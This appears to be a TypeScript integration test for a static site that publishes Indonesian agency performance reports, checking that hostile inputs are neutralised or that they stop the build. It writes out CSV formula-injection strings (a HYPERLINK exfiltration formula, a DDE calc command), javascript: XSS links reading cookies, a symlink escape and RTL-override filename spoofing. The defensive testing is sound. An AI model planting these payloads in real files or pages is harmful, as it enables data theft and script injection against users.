/**
 * Nothing unsafe reaches what is published. Every payload of the hostile corpus
 * (test/unit/rusak/kasus.ts) is looked for in every published file, search index included:
 * - in the real dist/ that `npm test` builds;
 * - in a build of the fixture with what is neutralised rather than refused: a draft report with
 *   its placeholders and narrative (left out), formula-leading names (apostrophe in every CSV);
 * - after a build of the fixture with refused payloads in several files at once, which must stop
 *   before writing any page and name every file.
 */
import { cpSync, existsSync, mkdirSync, mkdtempSync, readFileSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { dirname, join, resolve } from 'node:path';
import { gunzipSync } from 'node:zlib';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { barisCsv } from '../helpers/csv.ts';
import { KASUS_BERMUSUHAN } from '../unit/rusak/kasus.ts';
import { JALUR_CONTOH } from '../unit/publikasi/bantuan.ts';
import { halamanHtml, semuaBerkas } from './alat.ts';
import { bangun } from './bangun.ts';

const FIXTURE = resolve('test/fixtures/konten-contoh');
// the fixture's own paths (one table for unit and site tests); narratives as their folder
const JALUR = { ...JALUR_CONTOH, narasi: dirname(JALUR_CONTOH.narasi) };
const MUATAN = [...new Set(KASUS_BERMUSUHAN.flatMap((k) => (k.muatan ? [k.muatan] : [])))];
const RUMUS = '=HYPERLINK("https://contoh.invalid/?d="&A1;"klik")';
const RUMUS_SATUAN = "@SUM(1+1)*cmd|' /C calc'!A0";
const KONTROL = 'Data: BPS 2022, penanda-terbit-uji';
const PDF = resolve('test/fixtures/pdf/sintetis.pdf');
const TANGGAPAN = {
  temuan: 'dinas-contoh-2022-lkjip-rata-rata-0-tercetak-rata-rata',
  isi: 'Tanggapan sintetis penanda-tanggapan-uji.',
  tanggal: '2026-11-20',
  oleh: 'Sekretaris Dinas',
};

/** Every published file as text: pages, data, feeds, scripts, and Pagefind's gzipped index and fragments. */
function isiTerbit(dir: string): Map<string, string> {
  const out = new Map<string, string>();
  for (const berkas of semuaBerkas(dir)) {
    if (/\.(png|jpe?g|webp|avif|gif|ico|woff2?|ttf|wasm)$/.test(berkas)) continue;
    const mentah = readFileSync(berkas);
    out.set(berkas, (mentah[0] === 0x1f && mentah[1] === 0x8b ? gunzipSync(mentah) : mentah).toString('utf8'));
  }
  return out;
}

/** Which payloads a file holds; a binary file (a search index) is searched only for printable ones. */
const ditemukan = (isi: Map<string, string>, muatan: readonly string[]) =>
  [...isi].flatMap(([berkas, teks]) => {
    // eslint-disable-next-line no-control-regex -- a control character is a payload only in text
    const dicari = teks.includes('\0') ? muatan.filter((m) => !/[\u0000-\u001f]/.test(m)) : muatan;
    return dicari.filter((m) => teks.includes(m)).map((m) => `${berkas}: ${JSON.stringify(m)}`);
  });

const ubahJson = (dir: string, jalur: string, ubah: (j: any) => void) => {
  const json = JSON.parse(readFileSync(join(dir, jalur), 'utf8'));
  ubah(json);
  writeFileSync(join(dir, jalur), JSON.stringify(json, null, 2));
};

const salinan = () => {
  const folder = mkdtempSync(join(tmpdir(), 'kt-muatan-'));
  cpSync(join(FIXTURE, 'content'), join(folder, 'content'), { recursive: true });
  return folder;
};
const sementara: string[] = [];
afterAll(() => sementara.forEach((d) => rmSync(d, { recursive: true, force: true })));

describe('muatan tidak terbit (no payload is published)', () => {
  it('the corpus has payloads to look for', () => expect(MUATAN.length).toBeGreaterThan(30));

  it.skipIf(!existsSync(resolve('dist/index.html')))('the real site and its data hold none of them', () => {
    const isi = isiTerbit(resolve('dist'));
    expect(isi.size).toBeGreaterThan(50);
    expect(ditemukan(isi, MUATAN)).toEqual([]);
  });
});

describe('yang dinetralkan (what is neutralised rather than refused)', () => {
  const keluar = join(resolve('test-results'), `muatan-${process.pid}`);
  let isi: Map<string, string>;
  beforeAll(() => {
    const konten = salinan();
    sementara.push(konten, keluar);
    // a draft of the next year, with the corpus's draft payloads in its report and a narrative of it
    ubahJson(konten, JALUR.lkjip, (lkjip) => {
      lkjip.anggaran[0].baris[0].nama = RUMUS;
      lkjip.pengukuran.indikator[1].satuan = RUMUS_SATUAN;
      lkjip.catatan = KONTROL;
      // what an agency adds through the site: its own PDF and a response to a finding (synthetic)
      lkjip.sumber.berkas_pdf = 'lkjip-2022.pdf';
      lkjip.pengukuran.lokasi.halaman = 7;
      lkjip.tanggapan = [TANGGAPAN];
    });
    cpSync(PDF, join(konten, 'content/instansi/dinas-contoh/2022/lkjip-2022.pdf'));
    const draf = KASUS_BERMUSUHAN.find((k) => k.nama.startsWith('draf'))!.files();
    const laporanDraf = JSON.parse(String(draf.find((f) => f.path === JALUR.lkjip)!.isi));
    mkdirSync(join(konten, 'content/instansi/dinas-contoh/2023/narasi'), { recursive: true });
    writeFileSync(
      join(konten, 'content/instansi/dinas-contoh/2023/lkjip.json'),
      JSON.stringify({ ...laporanDraf, tahun: 2023 }, null, 2),
    );
    writeFileSync(
      join(konten, 'content/instansi/dinas-contoh/2023/narasi/bab-1.mdx'),
      String(draf.find((f) => f.path === `${JALUR.narasi}/bab-1.mdx`)!.isi),
    );
    mkdirSync(resolve('test-results'), { recursive: true });
    bangun(keluar, { KINERJA_KONTEN: konten }, true);
    isi = isiTerbit(keluar);
  }, 300_000);

  it('the build is complete, and the positive control shows the search finds published text', () => {
    expect(halamanHtml(keluar).length).toBeGreaterThan(5);
    expect(ditemukan(isi, [KONTROL]).length).toBeGreaterThan(0);
  });

  it('no payload of the corpus is published, the draft and its narrative included', () => {
    expect(ditemukan(isi, [...MUATAN, 'penanda-narasi-draf-uji'])).toEqual([]);
    expect(existsSync(join(keluar, 'instansi/dinas-contoh/2023'))).toBe(false);
    expect(existsSync(join(keluar, 'instansi/dinas-contoh/2022/index.html'))).toBe(true);
  });

  it("the agency's PDF is published at its stable path, and the report's paged locator links to its page", () => {
    expect(readFileSync(join(keluar, 'dokumen/dinas-contoh/2022/lkjip-2022.pdf'))).toEqual(readFileSync(PDF));
    const laporan = readFileSync(join(keluar, 'instansi/dinas-contoh/2022/index.html'), 'utf8');
    expect(laporan).toMatch(/href="[^"]*\/dokumen\/dinas-contoh\/2022\/lkjip-2022\.pdf#page=7"/);
    expect(laporan).toMatch(/href="[^"]*\/dokumen\/dinas-contoh\/2022\/lkjip-2022\.pdf">PDF yang disimpan instansi</);
  });

  it("the agency's response is beside its finding on the report page and /audit/, and in audit.csv", () => {
    for (const berkas of ['instansi/dinas-contoh/2022/index.html', 'audit/index.html']) {
      const html = readFileSync(join(keluar, berkas), 'utf8');
      const baris = html.slice(html.indexOf(`id="${TANGGAPAN.temuan}"`));
      expect(baris.slice(0, baris.search(/<\/(tr|li)>/)), berkas).toMatch(
        /Tanggapan instansi<\/strong> \(Sekretaris Dinas, 20 November 2026\)[\s\S]*penanda-tanggapan-uji/,
      );
    }
    const audit = isi.get(join(keluar, 'data/audit.csv'))!;
    expect(audit.split('\n').find((b) => b.includes(TANGGAPAN.temuan))).toContain(
      `${TANGGAPAN.isi},2026-11-20,Sekretaris Dinas`,
    );
  });

  it('no cell of a published CSV is a formula; the names keep their text behind an apostrophe', () => {
    const csvs = [...isi].filter(([f]) => f.endsWith('.csv'));
    expect(csvs.length).toBeGreaterThanOrEqual(3);
    const sel = csvs.flatMap(([, t]) => barisCsv(t).flat());
    expect(sel.filter((s) => /^\s*[=+\-@\t\r]/.test(s) && !/^[+-]?[\d.,]+%?$|^[-\s]+$/.test(s))).toEqual([]);
    expect(sel).toContain(`'${RUMUS}`);
    expect(sel).toContain(`'${RUMUS_SATUAN}`);
  });
});

describe('yang ditolak (what is refused stops the build before any page)', () => {
  it('several refused payloads at once: the build fails, names every file, writes no page', () => {
    const konten = salinan();
    const luar = mkdtempSync(join(tmpdir(), 'kt-luar-'));
    const keluar = join(resolve('test-results'), `muatan-tolak-${process.pid}`);
    sementara.push(konten, luar, keluar);
    const bab = (nama: string, badan: string) =>
      writeFileSync(join(konten, JALUR.narasi, `${nama}.mdx`), `---\nbab: ${nama}\njudul: Uji\n---\n${badan}\n`);
    bab('bab-1', 'Lihat [x](javascript\\:alert(document.domain)).');
    bab('bab-2', 'Lihat [x][a].\n\n[a]: javascript\\:alert(document.cookie)');
    bab('ikhtisar', 'Kepala Bidang (NIP 198503152010012004) menyusun laporan ini.');
    writeFileSync(join(luar, 'bab-3.mdx'), '---\nbab: bab-3\njudul: Luar\n---\nRAHASIA-DARI-LUAR-REPO\n');
    symlinkSync(luar, join(konten, JALUR.narasi, 'luar'));
    ubahJson(konten, JALUR.instansi, (j) => (j.nama = 'Dinas Contoh \u202efdp.exe'));
    ubahJson(konten, JALUR.lkjip, (j) => (j.sumber.berkas = 'ISI: penanda-isian-uji'));
    writeFileSync(
      join(konten, JALUR.kota),
      '{ "id": "kota-contoh", "nama": "Kota Contoh", "nama": "Kota Palsu", "tingkat": "kota", "induk": "provinsi-contoh" }',
    );
    // an unknown field whose name holds the override: the reports quote it
    writeFileSync(
      join(konten, 'content/wilayah/provinsi-contoh.json'),
      '{ "id": "provinsi-contoh", "nama": "Provinsi Contoh", "tingkat": "provinsi", "catatan\u202e": "x" }',
    );
    let log = '';
    let gagal = false;
    try {
      bangun(keluar, { KINERJA_KONTEN: konten });
    } catch (galat) {
      gagal = true;
      const err = galat as { stdout?: Buffer; stderr?: Buffer };
      log = `${err.stdout?.toString() ?? ''}${err.stderr?.toString() ?? ''}`;
    }
    expect(gagal).toBe(true);
    expect(log).toContain('build dihentikan');
    for (const berkas of [
      `${JALUR.narasi}/bab-1.mdx`,
      `${JALUR.narasi}/bab-2.mdx`,
      `${JALUR.narasi}/ikhtisar.mdx`,
      `${JALUR.narasi}/luar`,
      JALUR.instansi,
      JALUR.lkjip,
      JALUR.kota,
      'content/wilayah/provinsi-contoh.json',
    ])
      expect(log, berkas).toContain(`GALAT (error)  ${berkas}`);
    // the log shows the invisible character as its code, never the character itself
    expect(log).toContain('⟨U+202E⟩');
    expect(log).not.toContain('\u202e');
    expect(existsSync(keluar) ? halamanHtml(keluar) : []).toEqual([]);
  }, 300_000);
});
